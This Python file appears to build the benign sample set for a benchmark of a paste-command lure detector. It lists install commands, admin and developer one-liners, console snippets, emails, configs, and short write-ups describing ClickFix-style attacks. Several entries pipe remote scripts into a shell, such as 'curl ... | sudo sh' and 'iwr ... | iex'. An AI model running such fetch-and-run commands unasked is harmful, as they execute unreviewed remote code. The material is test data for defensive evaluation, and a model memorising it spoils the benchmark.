    ("https://github.com/lazywinadmin/AdsiPS", "Install-Module AdsiPS"),
    (
        "https://github.com/dafthack/GraphRunner",
        "git clone https://github.com/dafthack/GraphRunner.git",
    ),
    (
        "https://github.com/rvrsh3ll/TokenTactics",
        "git clone https://github.com/rvrsh3ll/TokenTactics.git",
    ),
    ("https://github.com/nightroman/Mdbc", "Install-Module Mdbc"),
    ("https://github.com/nightroman/SplitPipeline", "Install-Module SplitPipeline"),
    ("https://github.com/StartAutomating/ugit", "Install-Module ugit -Scope CurrentUser"),
    ("https://github.com/dotnet/format", "dotnet tool install -g dotnet-format"),
    ("https://github.com/dotnet/roslynator", "dotnet tool install -g roslynator.dotnet.cli"),
    ("https://github.com/dotnet-script/dotnet-script", "dotnet tool install -g dotnet-script"),
    (
        "https://github.com/danielpalme/ReportGenerator",
        "dotnet tool install -g dotnet-reportgenerator-globaltool",
    ),
    (
        "https://github.com/coverlet-coverage/coverlet",
        "dotnet tool install --global coverlet.console",
    ),
    ("https://github.com/nuke-build/nuke", "dotnet tool install Nuke.GlobalTool --global"),
    ("https://github.com/dotnet/dotnet-monitor", "dotnet tool install -g dotnet-monitor"),
    ("https://github.com/microsoft/sbom-tool", "winget install Microsoft.SbomTool"),
    ("https://github.com/fsprojects/Paket", "dotnet tool install --global Paket"),
    ("https://github.com/fsprojects/fantomas", "dotnet tool install -g fantomas"),
    ("https://github.com/icsharpcode/ILSpy", "dotnet tool install --global ilspycmd"),
    ("https://github.com/jbogard/MediatR", "dotnet add package MediatR"),
    ("https://github.com/AutoMapper/AutoMapper", "dotnet add package AutoMapper"),
    ("https://github.com/App-vNext/Polly", "dotnet add package Polly.Core"),
    ("https://github.com/DapperLib/Dapper", "dotnet add package Dapper"),
    ("https://github.com/HangfireIO/Hangfire", "dotnet add package Hangfire"),
    ("https://github.com/MassTransit/MassTransit", "dotnet add package MassTransit"),
    ("https://github.com/shouldly/shouldly", "dotnet add package Shouldly"),
    ("https://github.com/spectreconsole/spectre.console", "dotnet add package Spectre.Console"),
    (
        "https://github.com/pawelmalak/flame",
        "docker run -p 5005:5005 -v /path/to/data:/app/data -e PASSWORD=flame_password pawelmalak/flame",
    ),
    (
        "https://github.com/bastienwirtz/homer",
        "docker run -d -p 8080:8080 -v </your/local/assets/>:/www/assets --restart=always b4bz/homer:latest",
    ),
    (
        "https://github.com/alexta69/metube",
        "docker run -d -p 8081:8081 -v /path/to/downloads:/downloads ghcr.io/alexta69/metube",
    ),
    (
        "https://github.com/jlesage/docker-firefox",
        "docker run -d --name=firefox -p 5800:5800 -v /docker/appdata/firefox:/config:rw jlesage/firefox",
    ),
    (
        "https://github.com/jlesage/docker-handbrake",
        "docker run -d --name=handbrake -p 5800:5800 -v /docker/appdata/handbrake:/config:rw -v /home/user:/storage:ro -v /home/user/HandBrake/watch:/watch:rw -v /home/user/HandBrake/output:/output:rw jlesage/handbrake",
    ),
    (
        "https://github.com/kamranahmedse/git-standup",
        "curl -L https://raw.githubusercontent.com/kamranahmedse/git-standup/master/installer.sh | sudo sh",
    ),
    (
        "https://github.com/codecov/uploader",
        "curl -Os https://uploader.codecov.io/latest/linux/codecov\nchmod +x codecov\n./codecov",
    ),
    (
        "https://github.com/zaquestion/lab",
        "curl -s https://raw.githubusercontent.com/zaquestion/lab/master/install.sh | sudo bash",
    ),
    (
        "https://github.com/diogocavilha/fancy-git",
        "curl -sS https://raw.githubusercontent.com/diogocavilha/fancy-git/master/install.sh | sh",
    ),
    (
        "https://github.com/deluan/zsh-in-docker",
        'sh -c "$(wget -O- https://github.com/deluan/zsh-in-docker/releases/download/v1.2.1/zsh-in-docker.sh)"',
    ),
    (
        "https://github.com/Shougo/dein-installer.vim",
        "curl -fsSL https://raw.githubusercontent.com/Shougo/dein-installer.vim/main/installer.sh > installer.sh\nsh ./installer.sh",
    ),
    ("https://github.com/coder/coder", "curl -L https://coder.com/install.sh | sh"),
    ("https://github.com/ChrisTitusTech/win10script", "iwr -useb https://git.io/JJ8R4 | iex"),
    ("https://github.com/bashly-framework/completely", "gem install completely"),
]
for page, command in OWN_PAGES:
    ok(OWN, TERM, page, command)

# --- Installers quoted in OTHER projects' pages (the page says: first install X) ----------------

THIRD = "installer-third-party"
for page, command in [
    (
        "https://v2.tauri.app/start/prerequisites/",
        "sudo apt update\nsudo apt install libwebkit2gtk-4.1-dev \\\n  build-essential \\\n  curl \\\n  wget \\\n  file \\\n  libxdo-dev \\\n  libssl-dev \\\n  libayatana-appindicator3-dev \\\n  librsvg2-dev",
    ),
    (
        "https://github.com/comfyanonymous/ComfyUI",
        "pip install torch torchvision torchaudio --extra-index-url https://download.pytorch.org/whl/cu128",
    ),
    (
        "https://github.com/AUTOMATIC1111/stable-diffusion-webui",
        "sudo apt install wget git python3 python3-venv libgl1 libglib2.0-0",
    ),
    (
        "https://github.com/openai/whisper",
        "# on Ubuntu or Debian\nsudo apt update && sudo apt install ffmpeg",
    ),
    (
        "https://github.com/openai/whisper",
        "# on Windows using Scoop (https://scoop.sh/)\nscoop install ffmpeg",
    ),
    (
        "https://github.com/openai/whisper",
        "# on MacOS using Homebrew (https://brew.sh/)\nbrew install ffmpeg",
    ),
    (
        "https://github.com/pytorch/pytorch",
        "conda install cmake ninja\n# Run this command from the PyTorch directory after cloning the source code\npip install -r requirements.txt",
    ),
    (
        "https://rust-analyzer.github.io/book/installation.html",
        "rustup component add rust-analyzer",
    ),
    (
        "https://github.com/microsoft/vscode/wiki/How-to-Contribute",
        "sudo apt-get install build-essential g++ libx11-dev libxkbfile-dev libsecret-1-dev libkrb5-dev python-is-python3",
    ),
]:
    ok(THIRD, TERM, page, command)

# --- Admin commands (intranet wikis, runbooks, vendor KBs) --------------------------------------

ADMIN = "admin-command"
for page, target, command in [
    (
        "https://wiki.corp.example/it/runbooks/print-spooler",
        TERM,
        "Stop-Service -Name Spooler -Force\nRemove-Item C:\\Windows\\System32\\spool\\PRINTERS\\* -Force\nStart-Service -Name Spooler",
    ),
    (
        "https://wiki.corp.example/it/windows/dns",
        TERM,
        "ipconfig /flushdns\nipconfig /registerdns\nnltest /dsgetdc:corp.example",
    ),
    (
        "https://wiki.corp.example/it/ad/locked-accounts",
        TERM,
        "Search-ADAccount -LockedOut | Select-Object Name,SamAccountName,LastLogonDate | Format-Table -AutoSize",
    ),
    (
        "https://wiki.corp.example/it/ad/unlock",
        TERM,
        "Unlock-ADAccount -Identity j.meyer\nGet-ADUser j.meyer -Properties LockedOut,BadLogonCount | Select-Object Name,LockedOut,BadLogonCount",
    ),
    (
        "https://wiki.corp.example/it/windows/time",
        TERM,
        "w32tm /query /status\nw32tm /query /peers",
    ),
    (
        "https://wiki.corp.example/it/windows/disk-cleanup",
        TERM,
        "Get-ChildItem $env:TEMP -Recurse -ErrorAction SilentlyContinue | Where-Object LastWriteTime -lt (Get-Date).AddDays(-14) | Remove-Item -Recurse -Force -ErrorAction SilentlyContinue",
    ),
    (
        "https://wiki.corp.example/it/windows/bitlocker",
        TERM,
        "manage-bde -status C:\n(Get-BitLockerVolume -MountPoint C:).KeyProtector | Select-Object KeyProtectorType,KeyProtectorId",
    ),
    (
        "https://wiki.corp.example/it/windows/wifi",
        TERM,
        "netsh wlan show interfaces\nnetsh wlan show profiles",
    ),
    (
        "https://wiki.corp.example/it/linux/disk-full",
        TERM,
        "sudo du -xh / --max-depth=1 2>/dev/null | sort -h | tail -n 15\nsudo journalctl --vacuum-size=500M",
    ),
    (
        "https://wiki.corp.example/it/linux/nginx",
        TERM,
        "sudo nginx -t && sudo systemctl reload nginx\nsudo tail -n 50 /var/log/nginx/error.log",
    ),
    (
        "https://wiki.corp.example/it/linux/cert-renew",
        TERM,
        "sudo certbot renew --dry-run\nsudo systemctl list-timers | grep certbot",
    ),
    (
        "https://wiki.corp.example/it/k8s/evicted-pods",
        TERM,
        "kubectl get pods -A --field-selector=status.phase=Failed -o name | xargs -r kubectl delete",
    ),
    (
        "https://wiki.corp.example/it/k8s/rollout",
        TERM,
        "kubectl -n shop rollout restart deployment/checkout\nkubectl -n shop rollout status deployment/checkout --timeout=120s",
    ),
    (
        "https://wiki.corp.example/it/db/postgres-bloat",
        TERM,
        'psql -U postgres -d shop -c "SELECT relname, n_dead_tup FROM pg_stat_user_tables ORDER BY n_dead_tup DESC LIMIT 10;"',
    ),
    (
        "https://wiki.corp.example/it/macos/mdm",
        TERM,
        "sudo profiles show -type enrollment\nsudo jamf recon",
    ),
    (
        "https://wiki.corp.example/it/macos/dns",
        TERM,
        "softwareupdate --list\nsudo softwareupdate --install --all --restart",
    ),
    (
        "https://wiki.corp.example/it/windows/sccm",
        TERM,
        "Invoke-WmiMethod -Namespace root\\ccm -Class SMS_Client -Name TriggerSchedule -ArgumentList '{00000000-0000-0000-0000-000000000021}'",
    ),
    (
        "https://wiki.corp.example/it/windows/defender-scan",
        TERM,
        "Update-MpSignature\nStart-MpScan -ScanType QuickScan\nGet-MpThreatDetection | Select-Object -First 5",
    ),
    ("https://wiki.corp.example/it/runbox/printers", RUN, "printui.exe /s /t2"),
    (
        "https://wiki.corp.example/it/runbox/share",
        RUN,
        "\\\\fs01.corp.example\\Abteilungen\\Einkauf",
    ),
    ("https://wiki.corp.example/it/runbox/users", RUN, "control userpasswords2"),
    ("https://wiki.corp.example/it/runbox/eventvwr", RUN, "eventvwr.msc /c:System"),
]:
    ok(ADMIN, target, page, command)

# --- Developer one-liners ------------------------------------------------------------------------

DEV = "dev-one-liner"
for page, command in [
    (
        "https://stackoverflow.com/questions/4822471/count-lines-in-git-repo",
        "git ls-files | xargs wc -l | tail -n 1",
    ),
    (
        "https://stackoverflow.com/questions/6127328/how-to-delete-local-branches",
        "git branch --merged main | grep -v '^\\*\\|main' | xargs -r git branch -d",
    ),
    (
        "https://stackoverflow.com/questions/3258243/check-if-pull-needed-in-git",
        "git fetch && git status -uno",
    ),
    ("https://gist.github.com/example-dev/port-in-use", "lsof -nP -iTCP:8080 -sTCP:LISTEN"),
    (
        "https://gist.github.com/example-dev/win-port",
        "Get-NetTCPConnection -LocalPort 5000 | Select-Object OwningProcess | Get-Process",
    ),
    (
        "https://docs.python.org/3/library/http.server.html",
        "python3 -m http.server 9000 --directory dist",
    ),
    (
        "https://jqlang.github.io/jq/manual/",
        "curl -s https://api.github.com/repos/cli/cli/releases/latest | jq -r '.assets[].name'",
    ),
    (
        "https://stackoverflow.com/questions/5410757/delete-lines-with-pattern",
        "sed -i '/^#/d;/^$/d' config.ini",
    ),
    (
        "https://stackoverflow.com/questions/15777996/docker-cleanup",
        'docker image prune --filter "until=168h" -f',
    ),
    (
        "https://stackoverflow.com/questions/2596805/find-largest-files",
        "find . -type f -size +100M -exec ls -lh {} \\; | sort -k5 -h",
    ),
    (
        "https://gist.github.com/example-dev/openssl-check",
        "openssl s_client -connect example.com:443 -servername example.com </dev/null 2>/dev/null | openssl x509 -noout -dates",
    ),
    (
        "https://gist.github.com/example-dev/b64-jwt",
        'echo "$TOKEN" | cut -d. -f2 | base64 -d 2>/dev/null | jq .',
    ),
    (
        "https://gist.github.com/example-dev/npm-clean",
        "rm -rf node_modules package-lock.json && npm install",
    ),
    (
        "https://gist.github.com/example-dev/pip-freeze",
        "python -m pip freeze --exclude-editable > requirements.txt",
    ),
    ("https://gist.github.com/example-dev/git-undo", "git commit --amend --no-edit"),
    (
        "https://gist.github.com/example-dev/ps-hash",
        "Get-FileHash .\\setup.exe -Algorithm SHA256 | Format-List",
    ),
    (
        "https://gist.github.com/example-dev/ssh-keygen",
        'ssh-keygen -t ed25519 -C "me@example.com" -f ~/.ssh/id_ed25519_work',
    ),
    (
        "https://gist.github.com/example-dev/cargo-clean",
        "cargo clean && cargo build --release 2>&1 | tail -n 20",
    ),
    ("https://gist.github.com/example-dev/go-mod", "go mod tidy && go vet ./... && go test ./..."),
    (
        "https://gist.github.com/example-dev/k8s-secret",
        "kubectl get secret app-env -o jsonpath='{.data.DATABASE_URL}' | base64 --decode",
    ),
    (
        "https://gist.github.com/example-dev/ffmpeg",
        "ffmpeg -i input.mov -vf scale=1280:-2 -c:v libx264 -crf 23 -preset medium -c:a aac output.mp4",
    ),
    (
        "https://gist.github.com/example-dev/curl-json",
        "curl -sS -X POST http://localhost:3000/api/items -H 'Content-Type: application/json' -d '{\"name\":\"test\"}'",
    ),
]:
    ok(DEV, TERM, page, command)

# --- Console snippets ----------------------------------------------------------------------------

CONSOLE = "console-snippet"
for page, command in [
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Performance/getEntriesByType",
        "performance.getEntriesByType('resource').map(e => [e.name, Math.round(e.duration)]).sort((a, b) => b[1] - a[1]).slice(0, 10)",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "copy([...document.querySelectorAll('h2')].map(h => h.textContent.trim()))",
    ),
    (
        "https://stackoverflow.com/questions/1787322/count-dom-nodes",
        "document.querySelectorAll('*').length",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Storage/clear",
        "Object.keys(localStorage).filter(k => k.startsWith('debug'))",
    ),
    (
        "https://web.dev/articles/lcp",
        "new PerformanceObserver(list => console.log(list.getEntries())).observe({ type: 'layout-shift', buffered: true })",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Navigator/serviceWorker",
        "(await navigator.serviceWorker.getRegistrations()).map(r => r.scope)",
    ),
    (
        "https://stackoverflow.com/questions/3387427/remove-element-by-id",
        "document.querySelectorAll('[data-testid=\"cookie-banner\"]').forEach(el => el.remove())",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities#monitorEvents",
        "monitorEvents(document.body, 'key')",
    ),
    ("https://react.dev/learn/react-developer-tools", "$r.props"),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch",
        "fetch('/api/v2/status', { credentials: 'same-origin' }).then(r => r.status)",
    ),
    (
        "https://docs.ethers.org/v6/getting-started/",
        "const provider = new ethers.BrowserProvider(window.ethereum); const signer = await provider.getSigner(); console.log(await signer.getAddress())",
    ),
    (
        "https://docs.metamask.io/wallet/how-to/access-accounts/",
        "await window.ethereum.request({ method: 'eth_accounts' })",
    ),
    (
        "https://docs.metamask.io/wallet/reference/json-rpc-methods/eth_chainid/",
        "await ethereum.request({ method: 'eth_chainId' })",
    ),
    (
        "https://viem.sh/docs/actions/public/getBalance",
        "const balance = await publicClient.getBalance({ address: '0xd8dA6BF26964aF9D7eEd9e03E53415D37aA96045' }); console.log(formatEther(balance))",
    ),
]:
    ok(CONSOLE, CON, page, command)

# --- Security write-ups quoting lures (in prose, defanged or described) -----------------------------

PROSE = "prose-security"
for page, text in [
    (
        "https://research.example-security.com/blog/clickfix-2026-review",
        "In 2026 the ClickFix pattern kept its shape: a fake verification page copies a PowerShell one-liner to the clipboard and asks the visitor to press Win+R, Ctrl+V and Enter. What changed was the packaging - DNS TXT records, WebDAV shares and MSIX packages instead of a plain download.",
    ),
    (
        "https://research.example-security.com/blog/filefix-explorer",
        "FileFix abuses the File Explorer address bar: the page tells the user to open a file dialog and paste a 'path', but the clipboard holds a command followed by many spaces and a fake path in a comment, so only the harmless-looking tail is visible.",
    ),
    (
        "https://research.example-security.com/blog/macos-terminal-lures",
        "The macOS variants ask users to open Terminal and paste a line that decodes base64 and pipes it into zsh. The payload is an AMOS-family stealer that prompts for the login password with an osascript dialog and then collects keychain and browser data.",
    ),
    (
        "https://research.example-security.com/blog/device-code-phishing",
        "Device-code phishing needs no malicious link: the attacker starts a legitimate device authorization flow and sends the victim the user code with a pretext such as a shared document. Once the victim enters it on the real Microsoft page, the attacker's session receives the tokens.",
    ),
    (
        "https://research.example-security.com/blog/consentfix",
        "ConsentFix asks the victim to complete a real sign-in and then paste the localhost redirect URL, which still carries the authorization code, back into the phishing page. Defenders should treat a pasted loopback URL with a code parameter as a credential.",
    ),
    (
        "https://research.example-security.com/blog/runmru-hunting",
        "Hunting tip: the Run dialog keeps its history under HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU. Entries that start with powershell, mshta or cmd and end with a comment such as 'I am not a robot' are strong ClickFix indicators.",
    ),
    (
        "https://research.example-security.com/blog/webdav-lures",
        "Several 2026 lures replaced HTTP downloads with WebDAV paths written as \\\\host@SSL\\DavWWWRoot\\file, which Windows resolves through the WebClient service. Blocking outbound WebDAV at the proxy removed most of these in our telemetry.",
    ),
    (
        "https://research.example-security.com/blog/etherhiding",
        "EtherHiding stores the next stage in a smart contract on a public test chain; the injected script calls a read-only method through a public RPC endpoint, decodes the returned bytes and evaluates them. Taking down a web server does not help, because the contract cannot be removed.",
    ),
    (
        "https://research.example-security.com/blog/fake-meeting-pages",
        "Fake meeting pages imitate Google Meet or Teams and claim the microphone is blocked. The 'fix' button copies a command; on macOS it is a curl pipe into bash, on Windows an irm | iex line with a comment about audio drivers.",
    ),
    (
        "https://research.example-security.com/blog/msix-abuse",
        "Attackers have returned to MSIX: a page asks the user to paste Add-AppxPackage with a remote URL, and the signed-looking package runs a PowerShell script at install time. Group Policy can restrict app installation to trusted sources.",
    ),
    (
        "https://research.example-security.com/blog/crashfix",
        "The CrashFix campaign first crashes the browser with a malicious extension and then, when the user restarts it, shows a 'repair' page that asks for a Run-box paste. The command starts PowerShell minimised and downloads the repair script.",
    ),
    (
        "https://research.example-security.com/blog/job-lures",
        "Fake recruiters send developers a take-home task: clone a repository and run npm install. The package's postinstall hook downloads a stealer. Review package.json scripts before you install anything from an interview.",
    ),
    (
        "https://research.example-security.com/blog/defender-exclusions",
        "A common first step in 2026 loaders is Add-MpPreference -ExclusionPath pointing at the download folder, so alerts on Add-MpPreference from interactive PowerShell sessions are worth triaging quickly.",
    ),
    (
        "https://research.example-security.com/blog/cache-smuggling",
        "Cache smuggling hides the payload in a file the browser has already cached, disguised as an image; the pasted command only searches the cache folder for a marker string and runs what follows, so no download appears in proxy logs.",
    ),
    (
        "https://research.example-security.com/blog/callback-phishing",
        "Callback phishing emails contain no link and no attachment - only an invoice for an antivirus renewal and a phone number. The call center then talks the victim into installing a remote-access tool.",
    ),
    (
        "https://research.example-security.com/blog/clipboard-hygiene",
        "User training should be concrete: no website, CAPTCHA or support agent needs you to paste anything into Win+R, the Explorer address bar, Terminal or the browser console. If a page asks, close it and report it.",
    ),
]:
    ok(PROSE, UNK, page, text)

# --- Genuine messages with phone numbers, in the 13 languages -------------------------------------

MAIL = "support-mail"
for page, text in [
    (
        "https://mail.example.com/inbox/1201",
        "Hi Sam, your laptop repair (ticket 55120) is done. You can pick it up at the IT desk on floor 3 or call us on +1 (555) 010-3381 if you want it delivered.",
    ),
    (
        "https://mail.example.com/inbox/1202",
        "Hallo Frau Schulz, Ihr Termin beim Kundendienst ist am Dienstag um 10 Uhr. Bei Fragen erreichen Sie uns unter +49 555 0190 2284.",
    ),
    (
        "https://mail.example.com/inbox/1203",
        "Bonjour, votre colis a été livré au point relais. Pour toute question, appelez notre service client au +33 5 55 01 62 18 du lundi au vendredi.",
    ),
    (
        "https://mail.example.com/inbox/1204",
        "Hola Marta, confirmamos tu cita en el taller el jueves a las 9:30. Si necesitas cambiarla, llámanos al +34 555 017 226.",
    ),
    (
        "https://mail.example.com/inbox/1205",
        "Ciao Luca, la riunione con il fornitore è spostata a venerdì. Per urgenze il mio cellulare è +39 555 011 4471.",
    ),
    (
        "https://mail.example.com/inbox/1206",
        "Olá Ana, a sua encomenda 88412 foi enviada. Qualquer dúvida, ligue para o apoio ao cliente: +351 555 018 330.",
    ),
    (
        "https://mail.example.com/inbox/1207",
        "Beste Jan, de monteur komt morgen tussen 8 en 12 uur. Bij verhindering graag bellen naar 020-555 0138.",
    ),
    (
        "https://mail.example.com/inbox/1208",
        "Dzień dobry, przypominamy o wizycie u dentysty w środę o 14:00. W razie zmiany prosimy o kontakt: +48 22 555 01 55.",
    ),
    (
        "https://mail.example.com/inbox/1209",
        "Merhaba Ayşe, kargo yarın teslim edilecek. Sorularınız için müşteri hizmetleri: +90 212 555 0182.",
    ),
    (
        "https://mail.example.com/inbox/1210",
        "Здравствуйте, Иван! Ваш заказ готов к выдаче. Телефон пункта выдачи: +7 495 555-01-37.",
    ),
    (
        "https://mail.example.com/inbox/1211",
        "山田様、修理が完了しました。受け取りのご予約は 03-5550-1294 までお電話ください。",
    ),
    (
        "https://mail.example.com/inbox/1212",
        "王先生您好，您的会议室预订已确认。如需更改，请致电行政部：+86 10 5550 2917。",
    ),
    (
        "https://mail.example.com/inbox/1213",
        "مرحبًا أحمد، تم تأكيد موعد الصيانة يوم الأحد. للاستفسار يرجى الاتصال على +971 4 555 0163.",
    ),
]:
    ok(MAIL, UNK, page, text)

# --- OAuth and device-flow documentation ---------------------------------------------------------

OAUTH = "oauth-docs"
for page, text in [
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code",
        "The user visits the verification_uri (https://microsoft.com/devicelogin) on another device and enters the user_code; meanwhile the client polls the token endpoint with grant_type=urn:ietf:params:oauth:grant-type:device_code.",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps",
        "Step 2: the app polls POST https://github.com/login/oauth/access_token with client_id, device_code and grant_type until the user authorizes the device at https://github.com/login/device.",
    ),
    (
        "https://www.rfc-editor.org/rfc/rfc8252",
        "Loopback Interface Redirection: native apps that can open a port on the loopback interface use a redirect URI such as http://127.0.0.1:51004/oauth2redirect/example-provider to receive the authorization code.",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "After the user grants access, the server redirects to http://127.0.0.1:port with the authorization code in the code query parameter; exchange it immediately for tokens together with the code_verifier.",
    ),
    (
        "https://oauth.net/2/pkce/",
        "PKCE: the client creates a code_verifier, sends code_challenge=BASE64URL(SHA256(code_verifier)) with the authorization request, and presents the code_verifier when it exchanges the code.",
    ),
    (
        "https://auth0.com/docs/get-started/authentication-and-authorization-flow/device-authorization-flow",
        "Your device app requests a device code, shows the user the verification URL and user code, and polls /oauth/token until the user has logged in on a phone or computer.",
    ),
]:
    ok(OAUTH, UNK, page, text)

# --- Run-box and Explorer entries people really type -----------------------------------------------

RUNBOX = "run-box-plain"
for text in [
    "rundll32.exe shell32.dll,Control_RunDLL inetcpl.cpl,,4",
    "control.exe /name Microsoft.PowerOptions /page pagePlanSettings",
    "SystemPropertiesProtection",
    "cttune",
    "recdisc",
    "iscsicpl",
    "sigverif",
    "mstsc /v:jump02.corp.example:3390",
    "msra /expert",
    "rundll32.exe shell32.dll,Options_RunDLL 7",
    "shell:Common Startup",
    "%windir%\\system32\\SystemPropertiesPerformance.exe",
    "rekeywiz",
    "eudcedit",
]:
    ok(RUNBOX, RUN, None, text)

EXPLORER = "explorer-entry"
for text in [
    "%LOCALAPPDATA%\\Microsoft\\Teams\\logs",
    "C:\\Program Files\\Common Files\\microsoft shared",
    "\\\\nas01\\fotos\\2026\\Sommerfest",
    "%USERPROFILE%\\.ssh",
    "\\\\fs01.corp.example\\projekte$\\2027\\Angebote",
    "%APPDATA%\\Code\\User",
    "D:\\Backups\\Outlook\\archive-2025.pst",
    "%LOCALAPPDATA%\\Packages",
    "%LOCALAPPDATA%\\CrashDumps",
    "\\\\printsrv02.corp.example\\HP-Etage3",
    "%APPDATA%\\Microsoft\\Signatures",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1",
    "shell:Local Downloads",
    "%ProgramFiles%\\WindowsApps",
    "\\\\fs01.corp.example\\scans\\Empfang",
]:
    ok(EXPLORER, EXP, None, text)

# --- Config, source and log snippets ---------------------------------------------------------------

CONFIG = "config-code"
for page, text in [
    (
        "https://github.com/example-org/site/blob/main/netlify.toml",
        '[build]\n  command = "npm run build"\n  publish = "dist"\n\n[[redirects]]\n  from = "/*"\n  to = "/index.html"\n  status = 200',
    ),
    (
        "https://github.com/example-org/app/blob/main/Dockerfile",
        "FROM node:22-alpine AS build\nWORKDIR /srv\nCOPY package*.json ./\nRUN npm ci\nCOPY . .\nRUN npm run build\n\nFROM nginx:1.27-alpine\nCOPY --from=build /srv/dist /usr/share/nginx/html",
    ),
    (
        "https://github.com/example-org/app/blob/main/.github/workflows/ci.yml",
        "- uses: actions/checkout@v4\n- name: Install uv\n  run: curl -LsSf https://astral.sh/uv/install.sh | sh\n- run: uv sync --frozen\n- run: uv run pytest -q",
    ),
    (
        "https://github.com/example-org/app/blob/main/.editorconfig",
        "root = true\n\n[*]\nindent_style = space\nindent_size = 2\nend_of_line = lf\ninsert_final_newline = true",
    ),
    (
        "https://github.com/example-org/infra/blob/main/nginx.conf",
        "server {\n    listen 443 ssl;\n    server_name app.example.com;\n    location / {\n        proxy_pass http://127.0.0.1:8000;\n        proxy_set_header Host $host;\n    }\n}",
    ),
    (
        "https://github.com/example-org/app/blob/main/tsconfig.json",
        '{\n  "compilerOptions": {\n    "target": "ES2022",\n    "module": "NodeNext",\n    "strict": true,\n    "outDir": "dist"\n  }\n}',
    ),
    (
        "https://github.com/example-org/dotfiles/blob/main/.zshrc",
        'export PATH="$HOME/.local/bin:$PATH"\neval "$(zoxide init zsh)"\neval "$(starship init zsh)"\nalias ll=\'ls -lah\'',
    ),
    (
        "https://github.com/example-org/app/blob/main/docker-compose.yml",
        "services:\n  db:\n    image: postgres:17\n    environment:\n      POSTGRES_PASSWORD: example\n    volumes:\n      - pgdata:/var/lib/postgresql/data\nvolumes:\n  pgdata: {}",
    ),
    (
        "https://logs.internal.example/app",
        '2026-12-06T19:40:12Z ERROR worker job=thumbnail id=88213 err="context deadline exceeded" retry=2\n2026-12-06T19:40:19Z INFO  worker job=thumbnail id=88213 status=done dur=6.8s',
    ),
    (
        "https://github.com/example-org/contracts/blob/main/hardhat.config.ts",
        'import { HardhatUserConfig } from "hardhat/config";\nimport "@nomicfoundation/hardhat-toolbox";\n\nconst config: HardhatUserConfig = {\n  solidity: "0.8.28",\n  networks: { sepolia: { url: process.env.SEPOLIA_RPC_URL ?? "", accounts: [] } },\n};\nexport default config;',
    ),
    (
        "https://github.com/example-org/contracts/blob/main/foundry.toml",
        '[profile.default]\nsrc = "src"\nout = "out"\nlibs = ["lib"]\nsolc = "0.8.28"\noptimizer = true\noptimizer_runs = 200',
    ),
    (
        "https://github.com/example-org/app/blob/main/pyproject.toml",
        '[project]\nname = "inventory"\nversion = "0.4.2"\nrequires-python = ">=3.11"\ndependencies = ["fastapi>=0.115", "sqlalchemy>=2.0"]',
    ),
    (
        "https://logs.internal.example/fw",
        "Dec  6 19:51:44 gw01 kernel: [UFW BLOCK] IN=eth0 OUT= SRC=192.0.2.77 DST=10.0.0.5 PROTO=TCP SPT=51123 DPT=3389 WINDOW=1024",
    ),
]:
    ok(CONFIG, UNK, page, text)

# ----------------------------------------------------------------------------------------------
# Checks and writing: bench/blind/blindkit.py (shared from the seventh set on)
# ----------------------------------------------------------------------------------------------


def lure_rows() -> list[dict[str, str]]:
    return blindkit.lure_rows("blind12", LURES)


def benign_rows() -> list[dict[str, str]]:
    return blindkit.benign_rows("blind12", BENIGN)


def main() -> None:
    blindkit.main("blind12", LURES, BENIGN, LURES_OUT, BENIGN_OUT)


if __name__ == "__main__":
    main()
